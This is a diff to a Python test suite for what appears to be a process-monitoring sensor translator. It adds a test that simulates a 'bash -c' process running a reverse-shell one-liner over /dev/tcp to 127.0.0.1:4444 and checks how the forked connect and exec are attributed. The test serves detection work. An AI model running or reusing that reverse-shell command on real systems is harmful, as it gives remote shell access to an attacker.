@@ -93,6 +93,34 @@ def test_two_images_of_one_process_and_the_connect_of_the_first(tmp_path: Path) 
     assert first["process_exec"]["process"]["parent_exec_id"] == kprobe["parent"]["exec_id"]
 
 
+def test_a_forked_shell_connects_as_its_parent_then_becomes_bash_i(tmp_path: Path) -> None:
+    """``bash -c 'bash -i >& /dev/tcp/...'`` on bash 5: the redirection makes bash fork; the
+    child connects (a clone: its own exec_id, the parent's binary and arguments, its parent
+    the ``bash -c`` exec), then execs ``bash -i``."""
+    translator = _translator(tmp_path)
+    command = "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"
+    records = [
+        *_argv(10, 60, "bash", "-c", command),
+        SensorRecord("exec", ns=10, pid=60, tid=60, uid=0, ppid=50, old_uid=0, old_euid=0,
+                     euid=0, length=len(f"bash -c {command} "), path="/usr/bin/bash"),
+        SensorRecord("connect", ns=20, pid=61, tid=61, uid=0, ppid=60, family=2, port=4444,
+                     sock_type=1, protocol=6, comm="bash", address="127.0.0.1"),
+        *_argv(30, 61, "bash", "-i"),
+        SensorRecord("exec", ns=30, pid=61, tid=61, uid=0, ppid=60, old_uid=0, old_euid=0,
+                     euid=0, length=8, path="/usr/bin/bash"),
+    ]  # fmt: skip
+    for record in records:
+        translator.observe(record)
+    first, connect, second = _json(translator.feed_all(records))
+    shell = first["process_exec"]["process"]
+    clone = connect["process_kprobe"]["process"]
+    assert (clone["binary"], clone["arguments"]) == ("/usr/bin/bash", f"-c {command}")
+    assert clone["parent_exec_id"] == shell["exec_id"] != clone["exec_id"]
+    becomes = second["process_exec"]["process"]
+    assert becomes["pid"] == clone["pid"] and becomes["exec_id"] != clone["exec_id"]
+    assert becomes["arguments"] == "-i" and becomes["parent_exec_id"] == shell["exec_id"]
+
+
 def test_a_gone_process_keeps_its_kernel_argv_and_connects_inside_are_not_posted(
     tmp_path: Path,
 ) -> None:
@@ -210,4 +238,5 @@ def test_the_program_has_one_probe_per_prefix_and_no_module_probe_without_module
         assert program.count(f'strncmp($f, "{prefix}",') == 3
     assert "sys_enter_unlinkat" in program
     assert "sys_enter_finit_module" not in program
-    assert "sys_enter_finit_module" in render_program(template, watch=watch)
+    assert "sys_enter_finit_module" in render_program(template, watch=watch,
+                                                      has_syscall=lambda name: True)  # fmt: skip
